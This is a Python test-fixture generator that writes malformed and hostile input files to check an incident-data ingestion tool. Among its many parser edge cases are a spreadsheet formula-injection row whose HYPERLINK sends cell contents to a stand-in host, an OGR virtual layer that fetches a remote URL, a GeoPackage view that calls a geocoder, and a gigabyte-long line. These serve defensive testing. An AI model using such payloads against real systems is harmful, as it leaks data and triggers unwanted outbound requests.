#!/usr/bin/env python3
"""Writes the hostile input files: make_files.py FOLDER [--gigabyte]

Each has one oddity among 40 sound rows, so that it stands alone in the ledger. What is to come of each is in
expected.tsv. The same call makes the same bytes.
"""
import argparse
import io
import pathlib
import sqlite3
import struct
import zipfile

HEAD = "ref,category,location,date,easting,northing,uprn,notes\n"
SOUND_ROWS = 40
MIB = 1 << 20


def row(number, **changed):
    """A sound row of an incident inside the wards of tests/data/small_town, with some cells changed."""
    cells = {
        "ref": f"R{number:03}",
        "category": "ASB - Nuisance",
        "location": "12 High Street",
        "date": f"{number % 9 + 13:02}/0{number % 6 + 1}/2025 18:{number % 60:02}",
        "easting": str(517500 + 37 * number),
        "northing": str(212900 + 13 * number),
        "uprn": f"0{100081000000 + number}",
        "notes": "",
    }
    cells.update(changed)
    return ",".join(cells.values()) + "\n"


def rows(count=SOUND_ROWS, **changed):
    return "".join(row(i, **changed) for i in range(count))


def odd(**changed):
    """Sound rows with one odd row among them, on line 22."""
    return HEAD + rows(20) + row(SOUND_ROWS, **changed) + "".join(row(i) for i in range(20, SOUND_ROWS))


def with_line(line):
    """Sound rows with one odd line among them, on line 22."""
    return HEAD + rows(20) + line + "".join(row(i) for i in range(20, SOUND_ROWS))


SOUND = HEAD + rows()


def degrees(odd_row=""):
    head = "ref,category,date,longitude,latitude\n"
    sound = "".join(f"R{i},ASB - Nuisance,{13 + i % 9}/05/2025,{-0.295 + i / 2000:.4f},51.805\n" for i in range(SOUND_ROWS))
    return head + sound + odd_row


def dates(make):
    return HEAD + "".join(row(i, date=make(i)) for i in range(SOUND_ROWS))


TEXTS = {
    # encodings and line breaks
    "utf8": SOUND.replace("High", "Höhe"),
    "line_breaks_crlf": SOUND.replace("\n", "\r\n"),
    "line_breaks_cr": SOUND.replace("\n", "\r"),
    "line_breaks_mixed": HEAD + rows(20).replace("\n", "\r\n") + rows(10).replace("\n", "\r") + rows(10),
    "no_last_line_break": SOUND[:-1],
    "semicolons": SOUND.replace(",", ";"),
    "tabs": SOUND.replace(",", "\t"),
    "separator_line": "sep=;\n" + SOUND.replace(",", ";"),
    "line_break_in_quotes": odd(location='"Flat 3\n12 High Street"'),
    "right_to_left_marks": odd(location="\u202e12 High Street\u202c", date="\u200e13/05/2025"),
    "no_break_spaces": odd(date="\u00a013/05/2025\u00a0", easting="\u00a0517600"),
    # structure
    "quote_unclosed": odd(location='"12 High Street'),
    "quote_unclosed_last": SOUND + 'R99,ASB - Nuisance,"12 High',
    "text_behind_quote": odd(location='"12 High" Street'),
    "comma_not_quoted": odd(location="12, High Street"),
    "row_too_short": with_line("R99,ASB - Nuisance\n"),
    "field_over_64_kib": odd(notes="x" * 70000),
    "record_over_1_mib": odd(location="x" * 2 * MIB),
    "line_of_16_mib": odd(location="y" * 16 * MIB),
    "blank_rows": SOUND + ",,,,,,,\n" * 1000,
    "duplicate_header": SOUND.replace("notes", "Category", 1),
    "nameless_column": SOUND.replace("notes", "", 1),
    "header_only": HEAD,
    "no_header": rows(),
    "blank_rows_only": HEAD + ",,,,,,,\n",
    "unknown_columns": "a,b,c\n1,2,3\n",
    "html_page": "<!DOCTYPE html>\n<html><body>Your session has expired</body></html>\n",
    "virtual_layer": '<OGRVRTDataSource>\n<OGRVRTLayer name="x"><SrcDataSource>/vsicurl/http://192.0.2.1/x.csv'
    "</SrcDataSource></OGRVRTLayer>\n</OGRVRTDataSource>\n",
    # values
    "leading_zeros": odd(uprn="000010070001"),
    "uprn_shortened": odd(uprn="1.00E+11"),
    "thousands_comma": odd(easting='"517,600"', northing='"213,000"'),
    "easting_shortened": odd(easting="5.18E+05"),
    "not_a_number": odd(easting="NaN"),
    "infinite": odd(northing="inf"),
    "beyond_all_numbers": odd(easting="1e999"),
    "zero_zero": odd(easting="0", northing="0"),
    "word_for_a_coordinate": odd(easting="unknown"),
    "swapped_easting_northing": odd(easting="213000", northing="517600"),
    "swapped_latitude_longitude": degrees("R99,ASB - Nuisance,13/05/2025,51.805,-0.29\n"),
    "latitude_beyond_the_pole": degrees("R99,ASB - Nuisance,13/05/2025,-0.29,151.8\n"),
    "outside_the_area": odd(easting="530000", northing="230000"),
    "formula_cell": odd(location='"=HYPERLINK(""http://192.0.2.1/?""&A1,""x"")"', ref="=1+1"),
    # dates
    "dates_day_first": dates(lambda i: f"{13 + i % 9}/05/2025"),
    "dates_month_first": dates(lambda i: f"05/{13 + i % 9}/2025"),
    "dates_of_both_orders": odd(date="05/25/2025"),
    "dates_that_tell_no_order": dates(lambda i: f"0{i % 9 + 1}/05/2025"),
    "day_that_is_not": odd(date="31/02/2025"),
    "serial_dates": dates(lambda i: str(45700 + i)),
    "serial_dates_declared": dates(lambda i: str(45700 + i)),
    "milliseconds_since_1970": dates(lambda i: str(1746273600000 + 86400000 * i)),
    "end_before_start": SOUND.replace("date,", "from,", 1).replace("notes", "to", 1).replace(",\n", ",12/01/2024 10:00\n"),
    # gates
    "rejected_over_5_percent": HEAD + rows() + "".join(row(i, date="never") for i in range(3)),
    "no_row_of_the_theme": SOUND.replace("ASB - Nuisance", "Burglary"),
    "no_coordinates": HEAD + rows(easting="", northing=""),
}

BYTES = {
    "empty": b"",
    "byte_order_mark_alone": b"\xef\xbb\xbf",
    "utf8_mark": b"\xef\xbb\xbf" + SOUND.encode(),
    "windows_1252": SOUND.replace("High", "Café").encode("cp1252"),
    "utf8_cut": SOUND.encode() + row(98, location="Caf\u00e9").encode()[:-35] + b"\xc3",
    "utf16_le": b"\xff\xfe" + SOUND.encode("utf-16-le"),
    "utf16_be": b"\xfe\xff" + SOUND.encode("utf-16-be"),
    "utf16_without_mark": SOUND.encode("utf-16-le"),
    "utf16_cut": b"\xff\xfe" + SOUND.encode("utf-16-le")[:-1],
    "utf32": b"\xff\xfe\0\0" + SOUND.encode("utf-32-le"),
    "nul_byte": odd(location="12 High\0 Street").encode(),
    "zip_named_csv": b"PK\x03\x04\x14\0\x06\0[Content_Types].xml\n",
}


def sheet_cell(name, value):
    if isinstance(value, tuple):  # a formula and the value that was last seen of it
        return f'<c r="{name}" t="str"><f>{value[0]}</f><v>{value[1]}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{name}"><v>{value}</v></c>'
    return f'<c r="{name}" t="inlineStr"><is><t>{value}</t></is></c>'


def xlsx(table):
    """A workbook of one sheet, as small as Excel still opens."""
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    lines = "".join(
        f'<row r="{r}">' + "".join(sheet_cell(f"{chr(65 + c)}{r}", v) for c, v in enumerate(line)) + "</row>"
        for r, line in enumerate(table, 1)
    )
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
        f'Type="{relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{relations}"><sheets>'
        f'<sheet name="Incidents" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
        f'Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{lines}</sheetData></worksheet>',
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0)), '<?xml version="1.0" encoding="UTF-8"?>' + text)
    return out.getvalue()


def ods(table):
    """A workbook of one sheet as the OpenDocument format has it."""
    office = "urn:oasis:names:tc:opendocument:xmlns"
    rows = "".join(
        "<table:table-row>"
        + "".join(f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>' for v in line)
        + "</table:table-row>"
        for line in table
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{office}:office:1.0" '
        f'xmlns:table="{office}:table:1.0" xmlns:text="{office}:text:1.0" office:version="1.2"><office:body>'
        f'<office:spreadsheet><table:table table:name="Incidents">{rows}</table:table></office:spreadsheet>'
        f"</office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        parts = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content}
        for name, text in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0)), text)
    return out.getvalue()


def table_of(text):
    return [line.split(",") for line in text.splitlines()]


def typed(table):
    """Coordinates as numbers, as a spreadsheet keeps them."""
    return [table[0]] + [[int(v) if c in (4, 5) else v for c, v in enumerate(line)] for line in table[1:]]


def workbooks():
    sound = typed(table_of(SOUND))
    formula = [list(line) for line in sound]
    formula[20][2] = ("CONCATENATE(&quot;12 &quot;,&quot;High Street&quot;)", "12 High Street")
    serial = [list(line) for line in sound]
    for i, line in enumerate(serial[1:]):
        line[3] = 45700 + i
    whole = xlsx(sound)
    return {
        "workbook.xlsx": whole,
        "workbook_formula.xlsx": xlsx(formula),
        "workbook_serial_dates.xlsx": xlsx(serial),
        "workbook_header_only.xlsx": xlsx(sound[:1]),
        "workbook_header_only.ods": ods(sound[:1]),
        "workbook_unknown_header_only.xlsx": xlsx([["a", "b", "c"]]),
        "workbook_empty.xlsx": xlsx([]),
        "workbook.ods": ods(sound),
        "workbook_cut.xlsx": whole[: len(whole) // 2],
        "csv_named.xlsx": SOUND.encode(),
        "virtual_layer.gpkg": TEXTS["virtual_layer"].encode(),
        "virtual_layer.shp": TEXTS["virtual_layer"].encode(),
        "virtual_layer.geojson": TEXTS["virtual_layer"].encode(),
        "virtual_layer.ods": TEXTS["virtual_layer"].encode(),
        "unknown_ending.dat": SOUND.encode(),
    }


def geojson_area(coordinates, crs=""):
    return (
        '{"type":"FeatureCollection",%s"features":[{"type":"Feature","properties":{"code":"W1","name":"West",'
        '"people":4000},"geometry":{"type":"Polygon","coordinates":[%s]}}]}' % (crs, coordinates)
    ).encode()


def shapefile_without_crs():
    """One square, in metres that nothing says are metres."""
    ring = [(517000, 212000), (517000, 214000), (520000, 214000), (520000, 212000), (517000, 212000)]
    box = struct.pack("<4d", 517000, 212000, 520000, 214000)
    record = struct.pack("<i", 5) + box + struct.pack("<3i", 1, len(ring), 0) + b"".join(struct.pack("<2d", *p) for p in ring)

    def header(words):
        return struct.pack(">7i", 9994, 0, 0, 0, 0, 0, words) + struct.pack("<2i", 1000, 5) + box + bytes(32)

    shape = header(50 + 4 + len(record) // 2) + struct.pack(">2i", 1, len(record) // 2) + record
    index = header(50 + 4) + struct.pack(">2i", 50, len(record) // 2)
    fields = [(b"code", 2), (b"name", 4)]
    table = struct.pack("<B3BIHH20x", 3, 125, 1, 1, 1, 32 + 32 * len(fields) + 1, 1 + sum(n for _, n in fields))
    table += b"".join(struct.pack("<11sc4xBB14x", name, b"C", size, 0) for name, size in fields) + b"\r W1West\x1a"
    return {"wards_without_crs.shp": shape, "wards_without_crs.shx": index, "wards_without_crs.dbf": table}


def areas():
    return {
        "wards_not_a_number.geojson": geojson_area("[[-0.3,51.8],[NaN,51.8],[-0.28,51.81],[-0.3,51.8]]"),
        "wards_infinite.geojson": geojson_area("[[-0.3,51.8],[1e999,51.8],[-0.28,51.81],[-0.3,51.8]]"),
        "wards_bow_tie.geojson": geojson_area("[[-0.3,51.8],[-0.27,51.81],[-0.27,51.8],[-0.3,51.81],[-0.3,51.8]]"),
        "wards_spike.geojson": geojson_area(
            "[[-0.3,51.8],[-0.27,51.8],[-0.27,51.805],[-0.26,51.805],[-0.27,51.805],[-0.27,51.81],[-0.3,51.81],[-0.3,51.8]]"
        ),
        "wards_without_area.geojson": geojson_area("[[-0.3,51.8],[-0.27,51.8],[-0.3,51.8]]"),
        "wards_cut.geojson": geojson_area("[[-0.3,51.8],[-0.27,51.8],[-0.27,51.81],[-0.3,51.8]]")[:120],
    }


VIEW_CALLS_GEOCODER = """
    CREATE VIEW odd AS SELECT fid, ref, category, ogr_geocode(location) AS location, date, easting, northing FROM sound;
    """
# SQLite keeps any value in any column: a text where a number should be, and where a date should be.
TYPES_DO_NOT_FIT = """
    CREATE TABLE odd (fid INTEGER PRIMARY KEY, ref TEXT, category TEXT, location TEXT, date DATE, easting REAL, northing REAL);
    INSERT INTO odd SELECT fid, ref, category, location, '2025-05-13', easting, northing FROM sound;
    UPDATE odd SET easting = 'by the bridge' WHERE fid = 7;
    UPDATE odd SET date = 'last week' WHERE fid = 9;
    """


def geopackage(file, odd_table):
    """A GeoPackage of sound rows and one table that is listed, which `odd_table` makes of them."""
    file.unlink(missing_ok=True)
    base = sqlite3.connect(file)
    base.executescript(
        """
        PRAGMA application_id = 1196444487; PRAGMA user_version = 10200;
        CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT NOT NULL, srs_id INTEGER PRIMARY KEY, organization TEXT NOT NULL,
          organization_coordsys_id INTEGER NOT NULL, definition TEXT NOT NULL, description TEXT);
        INSERT INTO gpkg_spatial_ref_sys VALUES ('Undefined', -1, 'NONE', -1, 'undefined', ''), ('Undefined', 0, 'NONE', 0, 'undefined', '');
        CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT NOT NULL, identifier TEXT UNIQUE, description TEXT,
          last_change DATETIME NOT NULL, min_x DOUBLE, min_y DOUBLE, max_x DOUBLE, max_y DOUBLE, srs_id INTEGER);
        CREATE TABLE gpkg_geometry_columns (table_name TEXT NOT NULL, column_name TEXT NOT NULL, geometry_type_name TEXT NOT NULL,
          srs_id INTEGER NOT NULL, z TINYINT NOT NULL, m TINYINT NOT NULL, PRIMARY KEY (table_name, column_name));
        CREATE TABLE sound (fid INTEGER PRIMARY KEY, ref TEXT, category TEXT, location TEXT, date TEXT, easting REAL, northing REAL);
        """
    )
    for number, line in enumerate(table_of(SOUND)[1:]):
        base.execute("INSERT INTO sound VALUES (?, ?, ?, ?, ?, ?, ?)", [number + 1] + line[:4] + [float(v) for v in line[4:6]])
    base.executescript(
        odd_table
        + """
        INSERT INTO gpkg_contents VALUES ('odd', 'attributes', 'odd', '', '2025-01-01T00:00:00.000Z', NULL, NULL, NULL, NULL, 0);
        """
    )
    base.close()


def line_of_a_gigabyte(folder):
    with open(folder / "line_of_1_gib.csv", "wb") as file:
        file.write((HEAD + rows(20) + "R99,").encode())
        for _ in range(1024):
            file.write(b"z" * MIB)
        file.write(("\n" + rows(20)).encode())


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("folder", type=pathlib.Path)
    parser.add_argument("--gigabyte", action="store_true", help="also a CSV with a line of 1 GiB")
    arguments = parser.parse_args()
    folder = arguments.folder
    folder.mkdir(parents=True, exist_ok=True)
    files = {name + ".csv": text.encode() for name, text in TEXTS.items()}
    files.update({name + ".csv": data for name, data in BYTES.items()})
    files.update(workbooks())
    files.update(areas())
    files.update(shapefile_without_crs())
    for name, data in files.items():
        (folder / name).write_bytes(data)
    geopackage(folder / "view_calls_geocoder.gpkg", VIEW_CALLS_GEOCODER)
    geopackage(folder / "types_do_not_fit.gpkg", TYPES_DO_NOT_FIT)
    if arguments.gigabyte:
        line_of_a_gigabyte(folder)


if __name__ == "__main__":
    main()
